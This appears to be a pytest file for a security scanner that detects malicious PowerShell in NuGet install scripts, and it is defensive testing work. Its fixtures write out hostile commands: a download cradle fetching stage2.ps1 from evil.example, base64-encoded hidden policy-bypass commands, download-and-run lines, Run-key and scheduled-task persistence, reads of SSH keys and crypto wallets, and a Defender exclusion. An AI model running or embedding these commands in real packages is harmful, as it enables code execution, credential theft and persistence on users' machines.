"""PowerShell that NuGet runs (nuseal.scan.powershell): attack shapes are caught at their rule's severity; the same
text in comments, block comments, strings or the Authenticode signature block is not."""

from __future__ import annotations

import base64

import pytest

from nuseal.scan.model import Severity
from nuseal.scan.powershell import analyse_script
from nuseal.scan.rules import load_rules

from .scan_support import by_rule, make_nupkg, scan_bytes

RULES = load_rules()
HEADER = "param($installPath, $toolsPath, $package, $project)\n"
CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')"


def rules_in(script: str) -> set[str]:
    return analyse_script(script, RULES).rules()


def test_download_cradle_in_init_ps1_is_an_error() -> None:
    report = scan_bytes(make_nupkg("Some.Lib", files={"tools/init.ps1": HEADER + CRADLE + "\n"}))
    found = by_rule(report)
    assert found["NS1001"][0].severity is Severity.NOTE
    assert found["NS1101"][0].severity is Severity.WARNING
    assert found["NS1102"][0].severity is Severity.WARNING
    cradle = found["NS1110"][0]
    assert cradle.severity is Severity.ERROR
    assert cradle.location.path == "tools/init.ps1"
    assert cradle.location.line == 2
    assert "DownloadString" in cradle.evidence
    assert cradle.file_sha256 is not None and len(cradle.file_sha256) == 64


def test_base64_encoded_cradle_is_decoded_and_analysed() -> None:
    encoded = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    script = HEADER + f"powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -enc {encoded}\n"
    report = scan_bytes(make_nupkg("Some.Lib", files={"tools/install.ps1": script}))
    found = by_rule(report)
    assert found["NS1120"][0].severity is Severity.ERROR
    assert "DownloadString" in found["NS1120"][0].evidence  # the decoded command is shown
    assert found["NS1110"][0].severity is Severity.ERROR
    assert found["NS1110"][0].evidence.startswith("decoded: ")
    assert "NS1123" in found  # hidden window, policy bypass


def test_encoded_command_inside_a_string_argument() -> None:
    command = "Invoke-WebRequest http://x.example/a -OutFile a.exe; Start-Process a.exe"
    encoded = base64.b64encode(command.encode("utf-16-le"))
    script = f"Start-Process powershell -ArgumentList '-w hidden -EncodedCommand {encoded.decode()}'\n"
    found = rules_in(script)
    assert {"NS1120", "NS1110", "NS1103", "NS1123"} <= found


@pytest.mark.parametrize(
    "script",
    [
        f"# {CRADLE}\nWrite-Host 'hello'\n",
        f"<#\n {CRADLE}\n Start-Process calc\n#>\nWrite-Host 'hello'\n",
        "Write-Host 'done'\n# SIG # Begin signature block\n# MIIdownloadstringiexInvoke-WebRequest\n"
        "# Start-Process powershell -enc SQBFAFgA\n# SIG # End signature block\n",
        "Write-Host \"Run iex or Invoke-WebRequest yourself, see the readme\"\n",
    ],
    ids=["line-comment", "block-comment", "signature-block", "string-mentions"],
)
def test_text_in_comments_and_strings_is_not_code(script: str) -> None:
    assert rules_in(script) & {"NS1101", "NS1102", "NS1103", "NS1110", "NS1120"} == set()


@pytest.mark.parametrize(
    ("snippet", "rule"),
    [
        ("Invoke-WebRequest -Uri $u -OutFile $f", "NS1101"),
        ("iwr $u -OutFile x.exe", "NS1101"),
        ("Start-BitsTransfer -Source $u -Destination $d", "NS1101"),
        ("certutil.exe -urlcache -split -f $u x.exe", "NS1101"),
        ("bitsadmin /transfer j $u $d", "NS1101"),
        ("$c = New-Object System.Net.WebClient; $c.DownloadFile($u, $f)", "NS1101"),
        ("Invoke-Expression $code", "NS1102"),
        ("[ScriptBlock]::Create($text).Invoke()", "NS1102"),
        ("Start-Process -FilePath $exe", "NS1103"),
        ("[System.Diagnostics.Process]::Start('cmd.exe', '/c whoami')", "NS1103"),
        ("[System.Reflection.Assembly]::Load($bytes)", "NS1104"),
        ("Add-Type -TypeDefinition $source", "NS1104"),
        ("$b = [Convert]::FromBase64String($s)", "NS1121"),
        ("$c = [char]105 + [char]101 + [char]120", "NS1122"),
        ("$s = 'xei'; $r = $s[-1..-3] -join ''", "NS1122"),
        ("Set-ExecutionPolicy Bypass -Scope Process", "NS1123"),
        ("Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value $exe", "NS1130"),
        ("schtasks /create /tn updater /tr $exe /sc onlogon", "NS1130"),
        ("Register-ScheduledTask -TaskName u -Action $a -Trigger $t", "NS1130"),
        ("Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"", "NS1131"),
        ("Copy-Item \"$env:APPDATA\\Exodus\\exodus.wallet\" $d", "NS1131"),
        ("Add-MpPreference -ExclusionPath $env:TEMP", "NS1132"),
        ("$u = 'https://example.org/readme'", "NS1140"),
        ("$u = 'http://45.9.148.3:8080/p'", "NS1141"),
    ],
)
def test_each_pattern_rule(snippet: str, rule: str) -> None:
    assert rule in rules_in(snippet)


def test_call_operator_on_a_downloaded_path_is_download_and_run() -> None:
    script = "$f = \"$env:TEMP\\u.exe\"\n(New-Object Net.WebClient).DownloadFile('http://x.example/u.exe', $f)\n& $f\n"
    assert "NS1110" in rules_in(script)


def test_per_framework_and_capitalised_tools_folders_and_dot_sourced_scripts() -> None:
    pkg = make_nupkg(
        "Some.Lib",
        files={
            "Tools/net45/install.ps1": HEADER + ". (Join-Path $toolsPath helpers.ps1)\n",
            "Tools/net45/helpers.ps1": CRADLE + "\n",
            "tools/other.ps1": CRADLE + "\n",  # not run by NuGet, not dot-sourced: not analysed
        },
    )
    found = by_rule(scan_bytes(pkg))
    assert [f.location.path for f in found["NS1001"]] == ["Tools/net45/install.ps1"]
    assert [f.location.path for f in found["NS1110"]] == ["Tools/net45/helpers.ps1"]
    assert "dot-sourced by Tools/net45/install.ps1" in found["NS1110"][0].message


def test_scripts_nuget_does_not_run_are_not_reported() -> None:
    pkg = make_nupkg("Some.Lib", files={"tools/build.ps1": CRADLE, "content/init.ps1": CRADLE, "init.ps1": CRADLE})
    assert by_rule(scan_bytes(pkg)) == {}


def test_utf16_script_with_bom_is_read() -> None:
    data = b"\xff\xfe" + (HEADER + CRADLE).encode("utf-16-le")
    assert "NS1110" in by_rule(scan_bytes(make_nupkg("Some.Lib", files={"tools/init.ps1": data})))


def test_syntax_errors_do_not_hide_the_rest() -> None:
    script = "function broken( {\n" + CRADLE + "\n"
    assert "NS1110" in rules_in(script)


@pytest.mark.parametrize(
    "snippet",
    [
        "Start-Process 'https://github.com/contoso/lib#readme'",
        "start https://contoso.example/welcome",
        "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms') | Out-Null",
        "[System.Reflection.Assembly]::Load('System.Xml, Version=4.0.0.0, Culture=neutral')",
        "[System.Reflection.Assembly]::LoadFrom((Join-Path $toolsPath 'Tasks.dll'))",
        "$psi.WindowStyle = 'Normal'",
        "$v = '1.2.3.4'",
    ],
)
def test_ordinary_install_script_idioms_are_not_warnings(snippet: str) -> None:
    hits = analyse_script(snippet, RULES).hits
    assert [h for h in hits if RULES.get(h.rule_id).severity > Severity.NOTE] == []


def test_start_process_of_a_program_is_still_reported() -> None:
    assert "NS1103" in rules_in("Start-Process 'https://x.example/a' ; Start-Process $env:TEMP\\a.exe")
